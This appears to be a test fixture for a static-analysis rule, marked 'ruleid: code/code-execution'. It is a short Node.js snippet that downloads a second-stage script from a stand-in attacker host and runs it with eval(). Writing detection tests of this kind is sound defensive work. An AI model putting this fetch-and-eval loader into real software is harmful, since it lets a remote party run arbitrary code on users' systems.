// Second stage collected from the response stream and evaluated when it ends.
const https = require('https');
https.get('https://cdn.attacker.example/s.js', (res) => {
  let body = '';
  res.on('data', (chunk) => (body += chunk));
  // ruleid: code/code-execution
  res.on('end', () => eval(body));
});
